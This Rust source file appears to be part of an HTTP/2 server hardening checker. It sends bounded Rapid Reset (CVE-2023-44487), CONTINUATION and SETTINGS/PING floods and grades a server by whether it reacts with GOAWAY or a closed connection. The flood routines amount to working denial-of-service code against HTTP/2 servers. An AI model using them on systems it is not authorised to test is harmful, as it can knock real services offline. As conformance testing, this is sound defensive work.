//! Frames a client can send cheaply and in bulk (R10.4): streams reset at
//! once (Rapid Reset, CVE-2023-44487), header blocks that never end
//! (CONTINUATION), control frames whose answers are never read. Each flood
//! is bounded; a server passes by reacting before the bound.

use std::time::{Duration, Instant};

use super::conn::{Raw, grace, open_raw, snapshot, spawn_reader, write_by};
use super::frames::*;
use crate::options::Options;
use crate::probe::Endpoint;
use crate::report::Outcome;
use crate::table::CheckOut;

/// Rapid Reset. Streams are opened and cancelled (RST_STREAM CANCEL) up to
/// `Options::resets` times; the stream window is 0, so no response can finish on
/// its own and every stream is in flight until reset (a slow handler, seen
/// from outside). `delayed`: batches of up to the advertised stream limit
/// (at most 100), reset 100 ms after their HEADERS, so their handlers have
/// started; otherwise each RST follows its HEADERS in the same write (the
/// CVE-2023-44487 pattern). PASS: GOAWAY or a closed connection before all
/// were sent; FAIL: every reset absorbed with no reaction.
pub(super) async fn reset_flood(
    t: &Endpoint,
    opts: &Options,
    delayed: bool,
    deadline: Instant,
) -> CheckOut {
    let raw = open_raw(
        t,
        opts,
        &[(SETTINGS_INITIAL_WINDOW_SIZE, 0)],
        false,
        deadline,
    )
    .await?;
    let Raw {
        reader,
        mut wr,
        max_streams,
        seen,
    } = raw;
    let (seen, _reader) = spawn_reader(reader, seen, deadline);
    let block = request_block(t, "GET");
    // Stream ids stay far below 2^31.
    let total = opts.resets.clamp(1, 1_000_000);
    let batch = if delayed {
        max_streams.unwrap_or(100).clamp(1, 100)
    } else {
        50
    };
    let mut sent = 0u32;
    let mut stream = 1u32;
    let mut write_error = None;
    while sent < total {
        if snapshot(&seen).reacted() {
            break;
        }
        let n = batch.min(total - sent);
        let ids: Vec<u32> = (0..n).map(|i| stream + 2 * i).collect();
        stream += 2 * n;
        let rst = |id: u32| frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes());
        let result = if delayed {
            let heads: Vec<u8> = ids
                .iter()
                .flat_map(|&id| frame(HEADERS, END_STREAM | END_HEADERS, id, &block))
                .collect();
            match write_by(&mut wr, &heads, deadline).await {
                Ok(()) => {
                    tokio::time::sleep(Duration::from_millis(100)).await;
                    let resets: Vec<u8> = ids.iter().flat_map(|&id| rst(id)).collect();
                    write_by(&mut wr, &resets, deadline).await
                }
                Err(e) => Err(e),
            }
        } else {
            let pairs: Vec<u8> = ids
                .iter()
                .flat_map(|&id| {
                    let mut f = frame(HEADERS, END_STREAM | END_HEADERS, id, &block);
                    f.extend(rst(id));
                    f
                })
                .collect();
            write_by(&mut wr, &pairs, deadline).await
        };
        if let Err(e) = result {
            write_error = Some(e);
            break;
        }
        sent += n;
    }
    let s = grace(&seen, Duration::from_millis(500), deadline).await;
    let how = if delayed {
        format!("batches of {batch}, RST 100 ms after HEADERS")
    } else {
        "RST in the same write as HEADERS".to_string()
    };
    let limit = max_streams.map_or("no stream limit advertised".to_string(), |m| {
        format!("advertised limit {m}")
    });
    let detail = format!(
        "{how}; {limit}; {} responses begun; {}",
        s.headers,
        s.reset_summary()
    );
    if s.reacted() {
        // The last stream the server says it processed places its reaction;
        // `sent` is only how far our writes had got (socket buffers hide
        // the rest).
        let place = s.goaway.as_ref().map_or(String::new(), |(last, _, _)| {
            format!(" (our stream #{})", last.div_ceil(2))
        });
        return Ok(Outcome::pass(format!(
            "{}{place}, seen when {sent} of {total} streams had been written and reset; {detail}",
            s.reaction()
        )));
    }
    if let Some(e) = write_error {
        return Ok(Outcome::pass(format!(
            "write failed after {sent} of {total} resets ({e}); {detail}"
        )));
    }
    // Whether the handlers ran cannot be seen from here; responses that
    // began before their reset show some did.
    let note = if s.headers == 0 {
        " (no response began: the work may have been cancelled, but nothing bounded the resets)"
    } else {
        ""
    };
    Ok(Outcome::fail(format!(
        "all {total} streams opened and reset with no GOAWAY, connection open; {detail}{note}"
    )))
}

/// HEADERS without END_HEADERS, then CONTINUATION frames of 16 KiB header
/// fields up to 10 MiB. PASS: GOAWAY or close before all were taken.
pub(super) async fn continuation_flood(
    t: &Endpoint,
    opts: &Options,
    deadline: Instant,
) -> CheckOut {
    const TOTAL: usize = 10 * 1024 * 1024;
    let raw = open_raw(t, opts, &[], false, deadline).await?;
    let Raw {
        reader,
        mut wr,
        seen,
        ..
    } = raw;
    let (seen, _reader) = spawn_reader(reader, seen, deadline);
    let first = frame(HEADERS, END_STREAM, 1, &request_block(t, "GET"));
    if let Err(e) = write_by(&mut wr, &first, deadline).await {
        return Ok(Outcome::fail(format!("HEADERS: {e}")));
    }
    let mut sent = 0usize;
    let mut frames = 0u32;
    let mut stalled = None;
    let mut write_error = None;
    while sent < TOTAL {
        if snapshot(&seen).reacted() {
            break;
        }
        let mut block = Vec::with_capacity(MAX_FRAME);
        let value = vec![b'a'; MAX_FRAME - 32];
        hpack_literal(&mut block, &format!("x-kw-{frames}"), &value);
        let f = frame(CONTINUATION, 0, 1, &block);
        // A server that stops reading without closing: give it 2 s.
        let by = (Instant::now() + Duration::from_secs(2)).min(deadline);
        match write_by(&mut wr, &f, by).await {
            Ok(()) => {
                sent += block.len();
                frames += 1;
            }
            Err(e) if e.contains("timed out") => {
                stalled = Some(sent);
                break;
            }
            Err(e) => {
                write_error = Some(e);
                break;
            }
        }
    }
    let s = grace(&seen, Duration::from_millis(500), deadline).await;
    let amount = format!(
        "{} KiB of header block ({frames} CONTINUATION frames, no END_HEADERS)",
        sent / 1024
    );
    if s.reacted() {
        return Ok(Outcome::pass(format!("{} after {amount}", s.reaction())));
    }
    if let Some(e) = write_error {
        return Ok(Outcome::pass(format!("write failed after {amount}: {e}")));
    }
    if stalled.is_some() {
        return Ok(Outcome::warn(format!(
            "stopped reading after {amount} but kept the connection open (no GOAWAY)"
        )));
    }
    Ok(Outcome::fail(format!(
        "took {amount} and kept the connection open"
    )))
}

#[derive(Clone, Copy)]
pub(super) enum Control {
    Settings,
    Ping,
}

/// SETTINGS or PING frames, none of whose ACKs we read, up to 40 MiB.
/// Every one obliges the server to write an ACK; one that keeps reading
/// while its ACKs cannot leave is queueing them (or not answering). PASS:
/// GOAWAY/close, or the server stops reading (our writes stall for 1 s)
/// before the cap; FAIL: it took all 40 MiB. The cap is above what the
/// kernel can hold on the server's side (Linux autotunes a receive buffer
/// up to `tcp_rmem`'s maximum, 32 MiB here), so a server that took it all
/// read it.
pub(super) async fn control_flood(
    t: &Endpoint,
    opts: &Options,
    kind: Control,
    deadline: Instant,
) -> CheckOut {
    const TOTAL: usize = 40 * 1024 * 1024;
    const PER_WRITE: usize = 1000;
    let raw = open_raw(t, opts, &[], true, deadline).await?;
    let Raw {
        mut reader,
        mut wr,
        mut seen,
        ..
    } = raw;
    let (one, what) = match kind {
        Control::Settings => (settings_frame(&[(SETTINGS_ENABLE_PUSH, 0)]), "SETTINGS"),
        Control::Ping => (frame(PING, 0, 0, b"kwcheck!"), "PING"),
    };
    let chunk: Vec<u8> = one.repeat(PER_WRITE);
    let mut frames = 0usize;
    let mut stalled = false;
    let mut write_error = None;
    while frames * one.len() < TOTAL {
        let by = (Instant::now() + Duration::from_secs(1)).min(deadline);
        match write_by(&mut wr, &chunk, by).await {
            Ok(()) => frames += PER_WRITE,
            Err(e) if e.contains("timed out") => {
                stalled = true;
                break;
            }
            Err(e) => {
                write_error = Some(e);
                break;
            }
        }
        if Instant::now() >= deadline {
            break;
        }
    }
    let flood_end = Instant::now();
    // Now read what the server said, bounded in time.
    let until = (Instant::now() + Duration::from_secs(1)).min(deadline);
    while !seen.reacted() {
        match reader.next(until).await {
            Ok(f) => seen.note(&f),
            Err(End::Timeout) => break,
            Err(e) => seen.end = Some(e),
        }
    }
    let acks = match kind {
        Control::Settings => seen.settings_acks.saturating_sub(1),
        Control::Ping => seen.ping_acks,
    };
    let amount = format!(
        "~{frames} {what} frames ({} KiB) sent with no ACK read; {acks} ACKs read afterwards",
        frames * one.len() / 1024
    );
    if seen.reacted() {
        return Ok(Outcome::pass(format!("{} after {amount}", seen.reaction())));
    }
    if let Some(e) = write_error {
        return Ok(Outcome::pass(format!("write failed ({e}) after {amount}")));
    }
    if stalled {
        return Ok(Outcome::pass(format!(
            "the server stopped reading while its ACKs were unread (bounded): {amount}"
        )));
    }
    if flood_end >= deadline {
        return Ok(Outcome::warn(format!(
            "still reading at the time limit: {amount}"
        )));
    }
    Ok(Outcome::fail(format!(
        "took all {amount}, connection open: ACKs queued without bound or not sent"
    )))
}
